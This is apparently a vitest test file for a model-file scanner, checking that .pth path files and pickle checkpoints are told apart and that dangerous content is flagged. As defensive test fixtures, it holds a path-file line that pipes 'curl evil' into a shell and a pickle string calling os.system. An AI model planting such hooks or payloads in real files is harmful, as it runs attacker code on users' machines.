import { describe, expect, it } from 'vitest';
import { BufferSource } from '../../src/mlops/io/byte-source.js';
import { scanSource } from '../../src/mlops/modelscan/detect.js';
import type { ModelFinding } from '../../src/mlops/modelscan/types.js';

/** Scans `bytes` named `name`: the format, or the error, and the findings either way. */
function scan(name: string, bytes: string | Buffer): { format?: string; error?: string; rules: string[] } {
  const ctx = { location: name, depth: 0, findings: [] as ModelFinding[], errors: [] as string[] };
  try {
    const format = scanSource(new BufferSource(Buffer.from(bytes)), name, ctx);
    return { format, rules: ctx.findings.map((f) => `${f.severity} ${f.rule}`) };
  } catch (error) {
    return { error: (error as Error).message, rules: ctx.findings.map((f) => `${f.severity} ${f.rule}`) };
  }
}

// A .pth is a torch checkpoint or a Python path file (site-packages). Path files were walked as protocol-0 pickles
// ("import x" starts with the INST opcode) and reported as truncated pickles, or as no known format.
describe('.pth files', () => {
  it('a path file is read as one: paths are fine, "import" lines (run at every interpreter start) are findings', () => {
    expect(scan('paths.pth', '/opt/lib/python3/site-packages\n../shared\n')).toEqual({
      format: 'python-path',
      rules: [],
    });
    expect(scan('_virtualenv.pth', 'import _virtualenv\n')).toEqual({
      format: 'python-path',
      rules: ['medium pth.import-line'],
    });
    expect(scan('hook.pth', '# comment\n/opt/x\nimport os; os.system("curl evil | sh")\n').rules).toEqual([
      'medium pth.import-line',
    ]);
  });

  it('a pickle named .pth is still a pickle, and a cut malicious one stays an error with its finding', () => {
    expect(scan('model.pth', Buffer.from('80027d71002e', 'hex'))).toEqual({ format: 'pickle', rules: [] });
    // os.system('id') before the cut: unpickling runs the call before it fails, so this must not pass as text.
    const cut = scan('evil.pth', "cos\nsystem\n(S'id'\ntR");
    expect(cut.error).toMatch(/truncated|malformed|STOP/);
    expect(cut.rules.some((r) => r.startsWith('critical'))).toBe(true);
  });
});
